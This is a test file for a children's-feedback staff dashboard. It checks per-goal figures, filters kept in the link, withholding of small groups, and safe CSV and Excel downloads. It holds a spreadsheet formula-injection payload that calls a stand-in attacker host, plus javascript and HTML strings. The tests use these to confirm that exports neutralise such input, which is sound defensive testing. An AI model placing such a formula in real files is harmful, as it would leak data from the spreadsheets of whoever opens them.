"""The staff dashboard (/overview): figures per goal, filters in the link, safe downloads."""

import csv
import io

import openpyxl
import pytest

from feedback import plans, settings
from feedback.plans import editing, follow_up, sotkanet
from feedback.staff import auth
from feedback.ui.escaping import plain
from tests.support.pages import markdown_text, page
from tests.support.rounds import answered, open_round
from tests.support.sotkanet import DATA, POPULATION_PLAN
from tests.support.users import signed_in


def test_the_overview_shows_figures_per_goal(app_env, round_, admin):
    answered(app_env, round_, *[5] * 8, *[4] * 4)
    at = page("overview", session=admin)
    assert not at.exception
    table = at.table[0].value
    goals = list(table["Tavoite"])
    assert goals[0] == plain("I. Osallisuus")
    row = table[table["Tavoite"].str.endswith(plain("1. Lapsia kuullaan"))].iloc[0]
    assert (row["Vastauksia"], row["Keskiarvo 1–5"], row["Myönteisiä (4–5)"]) == (
        "12",
        "4,7",
        "100\u00a0%",
    )
    hidden = table[table["Tavoite"].str.endswith(plain("1. Liikkuminen"))].iloc[0]
    assert hidden["Vastauksia"] == "0"


def test_flagged_answers_are_counted_apart_per_round_under_translated_headings(
    app_env, round_, admin
):
    answered(app_env, round_, *[5] * 6)
    answered(app_env, round_, *[1] * 10, channel="kiosk", flagged=True)
    answered(app_env, round_, 1, 1, 1, channel="qr", flagged=True)
    at = page("overview", session=admin, lang="sv", opened=("flagged",))
    assert not at.exception
    (expander,) = [e for e in at.expander if e.label != "Avgränsningar"]
    assert expander.label.startswith("10 svar har markerats"), "the 3 by QR: a small group"
    (table,) = [d.value for d in expander.dataframe]
    assert table.to_dict("records") == [
        {"Omgång": round_.code, "Åtgärd": round_.action_id, "Svar": "10"}
    ]


def test_the_plan_is_in_the_link_and_remembered_for_the_user(app_env, admin):
    plans.import_directory(app_env, settings.PLANS_DIR)
    at = page("overview", session=admin, plan="kymenlaakso")
    assert not at.exception
    assert at.selectbox(key="plan").value == "kymenlaakso"
    assert at.title[0].value == "Yhteenveto tavoitteittain"
    assert at.selectbox(key="plan").format_func("kymenlaakso").startswith("Kymenlaakson maak")
    at.selectbox(key="plan").select("jakobstadsregionen").run()
    assert at.query_params["plan"] == "jakobstadsregionen"
    # A page opened later without ?plan= starts on the plan chosen last, and says so in the link.
    later = page("overview", session=admin)
    assert later.selectbox(key="plan").value == "jakobstadsregionen"
    assert later.query_params["plan"] == "jakobstadsregionen"
    assert page("council", session=admin).selectbox(key="plan").value == "jakobstadsregionen"


def test_the_filters_section_and_sub_goal_are_in_the_link_so_a_view_can_be_shared(
    app_env, round_, admin
):
    answered(app_env, round_, *[5] * 12)
    at = page("overview", session=admin, groups="guardians,made-up", opened=("filters-mini",))
    assert not at.exception
    assert at.multiselect(key="groups-mini").value == ["guardians"]  # the made-up one left out
    assert at.query_params["groups"] == "guardians"
    table = at.table[0].value
    row = table[table["Tavoite"].str.endswith(plain("1. Lapsia kuullaan"))].iloc[0]
    assert row["Vastauksia"] == "0", "the link's filter narrows the figures"
    at.multiselect(key="groups-mini").unselect("guardians").run()
    assert "groups" not in at.query_params
    row = at.table[0].value.set_index("Tavoite").filter(like="Lapsia kuullaan", axis=0)
    assert list(row["Vastauksia"]) == ["12"]
    at.multiselect(key="channels-mini").select("kiosk").select("qr").run()
    assert at.query_params["channels"] == "kiosk,qr"
    # Another section and sub-goal, opened from a link, in Swedish.
    at = page("overview", session=admin, section="sub_goals", sub_goal="mini:ii-1", lang="sv")
    assert not at.exception
    assert at.selectbox(key="sub-goal-mini").value == "mini:ii-1"
    assert list(at.table[-1].value["Åtgärd"]) == ["Liikuntakerhot"]
    charts = at.get("vega_lite_chart")
    assert len(charts) == 1, "of the charts only the faces' shares are in this section"
    assert "Mycket bra" in str(charts[0].proto), "the faces by their Swedish names"
    assert (at.query_params["section"], at.query_params["sub_goal"]) == ("sub_goals", "mini:ii-1")


def test_a_plan_in_the_link_that_is_not_there_or_not_yours_gets_a_clear_note(app_env, admin):
    at = page("overview", session=admin, plan="<b>nope</b>", lang="sv")
    assert not at.exception
    shown = plain("<b>nope</b>")  # the characters themselves, not bold or HTML
    assert [w.value for w in at.warning] == [
        f"Planen {shown} finns inte, eller så hör den inte till dig. Välj en plan nedan."
    ]
    assert at.selectbox(key="plan").value == "mini"


def test_a_sub_goal_title_is_shown_literally_in_the_overview_details(app_env, admin):
    tree = editing.export_plan(app_env, "mini")
    title = "**bold** [click](javascript:alert(1)) <b>x</b>"
    editing.find_goal(tree, "i-1")["title"] = {"fi": title}
    editing.save(app_env, tree)
    at = page("overview", session=admin, section="sub_goals")
    assert not at.exception
    # A choice of a select box is plain text: the characters, not bold and a link.
    assert f"1. {title} · 0" in at.selectbox(key="sub-goal-mini").options


def test_choosing_a_sub_goal_shows_its_actions_and_indicators(app_env, round_, admin):
    answered(app_env, round_, *[5] * 6, *[2] * 6)
    year = follow_up.default_year(app_env, "mini")
    follow_up.record(
        app_env, action_id="mini:a1", year=year, language="fi", by="hanna",
        kept=follow_up.entry(status="started", progress=40),
    )  # fmt: skip
    at = page("overview", session=admin, section="sub_goals")
    chooser = at.selectbox(key="sub-goal-mini")
    assert chooser.options == [
        "1. Lapsia kuullaan · 12",
        "2. Harrastukset kaikille · 0",
        "1. Liikkuminen · 0",
    ]
    actions, indicators = at.table[-1].value, at.dataframe[-1].value
    assert list(actions["Toimenpide"]) == [
        f"Lasten parlamentti — _{plain('Aloitettu (40 %)')}_",
        "Nuorisovaltuuston kokoukset",
    ]
    # What was done beside what children said, and the sub-goal's statuses rolled up.
    assert list(actions["Vastauksia"]) == ["12", "0"]
    assert list(actions["Keskiarvo 1–5"]) == ["3,5", ""]
    rolled_up = f"Toimenpiteiden toteutus {year}: 1 aloitettu · 1 merkitsemättä"
    assert plain(rolled_up) in markdown_text(at)
    assert list(indicators["Indikaattori"]) == ["1. Tyytyväinen elämäänsä"]
    chooser.select("1. Liikkuminen · 0").run()
    assert not at.exception
    assert list(at.table[-1].value["Toimenpide"]) == ["Liikuntakerhot"]
    assert "Suunnitelmassa ei ole tälle välitavoitteelle indikaattoreita." in [
        c.value for c in at.caption
    ]


def test_the_overview_without_plans_says_how_to_load_them(db_path, monkeypatch):
    monkeypatch.setenv("FEEDBACK_DB", str(db_path))
    at = page("overview", session=signed_in(db_path, "admin", role=auth.Role.ADMIN))
    assert "feedback init" in at.warning[0].value


#: An action's text that a spreadsheet would run as a formula: a link that sends a cell away.
FORMULA = '=HYPERLINK("http://attacker.example/?"&B2;"Klikkaa")'


def test_the_dashboard_files_open_in_excel_with_formulas_as_plain_text(
    app_env, round_, admin, downloaded
):
    plan = editing.export_plan(app_env, "mini")
    editing.find_action(plan, "a1")["text"] = {"fi": FORMULA, "en": FORMULA}
    editing.save(app_env, plan)
    answered(app_env, round_, *[4] * 10)
    at = page("overview", session=admin, lang="en", section="files")
    labels = [d.proto.label for d in at.get("download_button")]
    assert labels == [
        "Summary (CSV)",
        "Summary (Excel)",
        "Own questions (CSV)",
        "Anonymous answers (CSV)",
        "Anonymous answers (Excel)",
        "Download the yearly report (PDF)",
        "Download the realisation report (XLSX)",
    ]
    realisation = openpyxl.load_workbook(
        io.BytesIO(downloaded(at, "Download the realisation report (XLSX)"))
    )
    actions = [cell for row in realisation["Toimenpiteet"].iter_rows() for cell in row]
    assert [(c.value, c.data_type) for c in actions if c.value == FORMULA] == [(FORMULA, "s")]
    for name in ("Summary", "Anonymous answers"):
        text = downloaded(at, f"{name} (CSV)").decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
        workbook = openpyxl.load_workbook(io.BytesIO(downloaded(at, f"{name} (Excel)")))
        sheet = [cell for row in workbook.active.iter_rows() for cell in row]
        # Nothing Excel would run: in CSV no cell starts a formula, in the workbook no cell is one.
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
        assert not [cell for cell in sheet if cell.data_type == "f"]
        if name == "Summary":  # the action's text is there, to read: in CSV after an apostrophe
            assert "'" + FORMULA in cells  # (which Excel hides), in the workbook as a text cell
            assert [(c.value, c.data_type) for c in sheet if c.value == FORMULA] == [(FORMULA, "s")]


def test_staff_get_the_figure_exports_but_not_the_answer_level_one(app_env, round_):
    staff = signed_in(app_env, "sari", role=auth.Role.STAFF, actors=("mini:hamina",))
    at = page("overview", session=staff, lang="en", section="files")
    labels = [d.proto.label for d in at.get("download_button")]
    assert labels == [
        "Summary (CSV)",
        "Summary (Excel)",
        "Own questions (CSV)",
        "Download the yearly report (PDF)",
        "Download the realisation report (XLSX)",
    ]


@pytest.mark.parametrize("n", range(1, 16))
def test_the_dashboard_shows_less_than_k_for_every_small_group(app_env, admin, n):
    round_ = open_round(app_env, action_id="mini:a4")  # the only action of main goal II
    answered(app_env, round_, *[3] * n)
    table = page("overview", session=admin).table[0].value
    shown = dict(zip(table["Tavoite"].str.strip(), table["Vastauksia"], strict=True))
    expected = "< 10" if n < 10 else str(n)
    assert shown[plain("II. Hyvinvointi")] == expected
    assert shown[plain("1. Liikkuminen")] == expected
    means = dict(zip(table["Tavoite"].str.strip(), table["Keskiarvo 1–5"], strict=True))
    assert (means[plain("1. Liikkuminen")] == "") == (n < 10)


def test_own_questions_per_round_and_across_rounds_with_small_groups_withheld(
    app_env, admin, downloaded
):
    from dataclasses import replace

    from feedback.rounds import answers
    from tests.support.rounds import own_questions

    liked = own_questions()[2]
    hostile = replace(
        liked,
        choices=(
            *liked.choices[:2],
            replace(liked.choices[2], labels={"fi": FORMULA, "sv": FORMULA, "en": FORMULA}),
        ),
    )
    first = open_round(app_env, action_id="mini:a1", own=(hostile,))
    later = open_round(app_env, action_id="mini:a2", own=(hostile,))
    for round_, chosen in ((first, ["games"] * 11 + ["music"]), (later, ["games"] * 3)):
        for choice in chosen:
            answers.record(
                app_env,
                round_,
                answers.Answer(scores=(4,), own={0: (choice,)}),
                submission_id=answers.new_submission_id(),
            )
    at = page("overview", session=admin, lang="en", section="questions")
    assert not at.exception

    def shown() -> list[tuple[str, ...]]:
        table = at.dataframe[0].value
        columns = ("Round", "Choice", "Respondents", "Answers", "Share")
        return list(zip(*(table[c] for c in columns), strict=True))

    # The newest round first: it has 3 respondents, so nothing of it is shown.
    assert [o.split(" · ")[0] for o in at.selectbox(key="own-round-mini").options] == [
        later.code,
        first.code,
    ]
    assert shown() == [
        (later.code, "Games", "< 10", "–", "–"),
        (later.code, "Music", "< 10", "–", "–"),
        (later.code, FORMULA, "< 10", "–", "–"),
    ]
    # 11 of 12 chose games and 1 music: both withheld (the 1 is small, and so is 12 − 11).
    at.selectbox(key="own-round-mini").select_index(1).run()
    assert not at.exception
    assert shown() == [
        (first.code, "Games", "12", "–", "–"),
        (first.code, "Music", "12", "–", "–"),
        (first.code, FORMULA, "12", "0", "0%"),
    ]
    across = at.dataframe[1].value  # the one bank question, in both rounds
    assert list(across["Round"]) == [first.code] * 3 + [later.code] * 3
    files = page("overview", session=admin, lang="en", section="files")
    text = downloaded(files, "Own questions (CSV)").decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]
    assert "'" + FORMULA in cells and FORMULA not in cells


def test_the_dashboard_shows_answers_per_thousand_children_where_they_are_few(
    app_env, admin, tmp_path
):
    path = tmp_path / "mini.yaml"
    path.write_text(POPULATION_PLAN, encoding="utf-8")
    plans.import_file(app_env, path)
    population = (DATA / "population.json").read_bytes()
    sotkanet.store(app_env, *sotkanet.check(app_env, "mini", population, name="population.json"))
    hamina = open_round(app_env, action_id="mini:a1", audiences=("grades-4-6",))
    answered(app_env, hamina, *[4] * 14, group="grades-4-6")
    at = page("overview", session=admin, section="sub_goals")
    assert not at.exception
    shown = next(d.value for d in at.dataframe if "/ 1 000 lasta" in d.value.columns)
    # This year's answers against the latest population figure (2023).
    assert shown.values.tolist() == [
        ["Koko alue", "0–6-vuotiaat", "0,0", "0", "8400 (2023)"],
        ["Koko alue", "7–12-vuotiaat", "1,5", "14", "9500 (2023)"],
        ["Hamina", "0–6-vuotiaat", "0,0", "0", "1240 (2023)"],
        ["Hamina", "7–12-vuotiaat", "10,0", "14", "1400 (2023)"],
        ["Kotka", "0–6-vuotiaat", "0,0", "0", "2950 (2023)"],
        ["Kotka", "7–12-vuotiaat", "0,0", "0", "3300 (2023)"],
    ]
